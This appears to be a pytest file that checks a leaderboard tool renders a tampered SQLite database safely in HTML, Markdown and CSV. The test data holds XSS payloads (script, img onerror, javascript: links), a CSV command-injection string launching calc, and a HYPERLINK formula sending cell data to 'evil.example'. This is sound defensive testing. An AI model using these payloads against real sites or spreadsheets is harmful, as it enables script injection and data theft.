"""Leaderboard pages from a hostile database: everything taken from the database is escaped in every
output (HTML, Markdown, CSV), links are built only from registered protocol names, and control
characters (a NUL) give no traceback."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import sqlite3

import numpy as np
import pandas as pd

from aadb_toolkit import leaderboard
from aadb_toolkit.cli import main
from aadb_toolkit.protocols import PROTOCOLS
from aadb_toolkit.protocols.results import Metric, PairedData, make_result

N = 30
SCRIPT = "<script>alert(1)</script>"
JS_PROTOCOL = "javascript:alert(document.domain)//"


def _result(seed, protocol="aadb"):
    rng = np.random.default_rng(seed)
    truth = pd.Series(rng.normal(3, 0.6, N), index=[f"i{k:03d}.jpg" for k in range(N)])
    paired = PairedData.from_series(truth, truth + rng.normal(0, 0.4, N))
    return make_result(protocol=protocol, protocol_version="1", main_metric="spearman",
                       metrics={"spearman": Metric(0.5)}, data_fingerprint="sha256:fp",
                       submission_sha256=f"sha256:{seed:064d}", n_images=N, seed=0, n_boot=0, paired=paired)


def _hostile_db(tmp_path):
    """A database written by the toolkit, then edited by hand the way an attacker would."""
    db = tmp_path / "lb.db"
    leaderboard.record(db, _result(1), "plain model")
    leaderboard.record(db, _result(2), "hostile model")
    leaderboard.record(db, _result(3, protocol=JS_PROTOCOL), "link model")
    leaderboard.record(db, _result(4), "formula")
    with sqlite3.connect(db) as con:
        doc = json.loads(con.execute("SELECT document FROM results WHERE name = 'hostile model'").fetchone()[0])
        doc["data"]["dataset"] = "<img src=x onerror=alert(2)>"
        con.execute("UPDATE results SET name = ?, toolkit_version = ?, protocol_version = ?, document = ? "
                    "WHERE name = 'hostile model'",
                    (f"{SCRIPT}\x00nul [x](javascript:alert(3)) =cmd|' /C calc'!A0", "9<iframe>\x00",
                     "1", json.dumps(doc)))
        con.execute("UPDATE results SET name = ? WHERE name = 'link model'", (f"{SCRIPT}\x00",))
        con.execute("UPDATE results SET name = ? WHERE name = 'formula'", ("=1+2\x00",))
    con.close()
    return db


def _outputs(folder):
    return {p.name: p.read_text(encoding="utf-8") for p in folder.iterdir() if not p.name.startswith(".")}


def _raw_markup(name, text):
    """Markup that a browser or a Markdown viewer would run: raw tags (in Markdown: not escaped by a
    backslash) and links whose target is a script."""
    if name.endswith(".html"):
        return re.findall(r"<(?:script|img|iframe)|href=\"javascript", text)
    return re.findall(r"(?<!\\)<(?:script|img|iframe)|(?<!\\)\]\(javascript", text)


def test_a_hostile_database_renders_inert_pages_without_a_traceback(tmp_path, capsys):
    db = _hostile_db(tmp_path)
    assert main(["leaderboard", "--db", str(db), "--out", str(tmp_path / "o")]) == 0
    assert "Traceback" not in capsys.readouterr().err
    pages = _outputs(tmp_path / "o")
    # one board per registered protocol, and no file named after an unregistered one
    assert set(pages) == {f"{p}.{ext}" for p in PROTOCOLS for ext in ("md", "html", "csv")} | {"index.md", "index.html"}
    for name, text in pages.items():
        assert "\x00" not in text, name
        if not name.endswith(".csv"):
            assert _raw_markup(name, text) == [], name
    hrefs = re.findall(r'href="([^"]*)"', pages["index.html"])
    assert hrefs == [f"{p}.html" for p in PROTOCOLS]
    assert re.findall(r"\]\(([^)]*)\)", pages["index.md"]) == [f"{p}.md" for p in PROTOCOLS]
    # the unregistered protocol is mentioned as inert text, not linked
    for page in ("index.html", "index.md"):
        assert "not a registered protocol" in pages[page] and "javascript" in pages[page]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages["aadb.html"]
    assert "\\<script>" in pages["aadb.md"] and "\\[x\\](javascript:alert(3))" in pages["aadb.md"]
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(pages["aadb.csv"]))}
    assert rows["'=1+2\ufffd"]["kind"] == "submitted"  # a formula is neutralised, the NUL shown as U+FFFD
    assert any(n.startswith(SCRIPT) for n in rows)  # CSV is data: the text is kept, without the NUL


def test_print_of_a_hostile_board_is_inert(tmp_path, capsys):
    db = _hostile_db(tmp_path)
    assert main(["leaderboard", "--db", str(db), "--print", "aadb"]) == 0
    out = capsys.readouterr().out
    assert "\x00" not in out and "\\<script>" in out and "<script" not in out.replace("\\<script", "")


def test_an_unregistered_protocol_has_no_board_and_no_link(tmp_path, capsys):
    db = _hostile_db(tmp_path)
    assert main(["leaderboard", "--db", str(db), "--print", JS_PROTOCOL]) == 1
    assert "Traceback" not in capsys.readouterr().err
    written = leaderboard.render(db, tmp_path / "o")
    assert all(not name.startswith("javascript") for name in written)


def test_a_nul_in_the_protocol_name_gives_no_traceback(tmp_path, capsys):
    db = tmp_path / "lb.db"
    leaderboard.record(db, dataclasses.replace(_result(4), protocol="x\x00y"), "m")
    assert main(["leaderboard", "--db", str(db), "--out", str(tmp_path / "o")]) == 0
    assert "Traceback" not in capsys.readouterr().err
    assert all("\x00" not in t for t in _outputs(tmp_path / "o").values())


def test_a_metric_name_from_the_database_is_no_formula_in_the_csv_header(tmp_path):
    """Review 2026-12-04 (afternoon): the board CSV neutralised formulas in its cells but wrote its
    header as found, so a metric name ``=HYPERLINK(…)`` edited into a result document became a
    formula in the header row."""
    db = tmp_path / "lb.db"
    leaderboard.record(db, _result(1), "model")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with sqlite3.connect(db) as con:
        doc = json.loads(con.execute("SELECT document FROM results").fetchone()[0])
        doc["metrics"][formula] = doc["metrics"]["spearman"]
        con.execute("UPDATE results SET document = ?", (json.dumps(doc),))
    con.close()
    assert main(["leaderboard", "--db", str(db), "--out", str(tmp_path / "out")]) == 0
    header = next(csv.reader(io.StringIO((tmp_path / "out" / "aadb.csv").read_text(encoding="utf-8"))))
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header
